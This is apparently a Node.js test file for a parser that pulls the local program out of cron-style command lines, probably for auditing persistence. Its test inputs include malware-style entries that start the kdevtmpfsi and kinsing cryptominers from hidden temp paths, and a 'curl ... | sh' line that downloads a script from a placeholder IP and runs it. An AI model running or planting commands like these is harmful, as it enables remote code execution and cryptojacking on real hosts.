import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandTargets } from './target.js';

test('finds the program a cron line runs, skipping redirections', () => {
  assert.deepEqual(commandTargets('/tmp/.x/kdevtmpfsi >/dev/null 2>&1 &'), ['/tmp/.x/kdevtmpfsi']);
});

test('takes the script an interpreter runs as the main target', () => {
  assert.deepEqual(commandTargets('/bin/bash /root/.cache/up.sh > /tmp/log 2>&1'), ['/root/.cache/up.sh']);
});

test('finds the program inside a sh -c string, not the directory it changes to', () => {
  assert.deepEqual(commandTargets('/bin/sh -c "cd /var/tmp && ./kinsing"'), ['./kinsing']);
});

test('a checked file (test -x) and daemon arguments after -- are not targets', () => {
  assert.deepEqual(commandTargets('test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }'), [
    '/etc/cron.daily',
  ]);
  assert.deepEqual(commandTargets('start-stop-daemon --start --exec /usr/sbin/xd -- -c /etc/xd.json'), [
    '/usr/sbin/xd',
  ]);
});

test('a download pipeline has no local target', () => {
  assert.deepEqual(commandTargets('curl -fsSL http://1.2.3.4/s.sh | sh'), []);
});
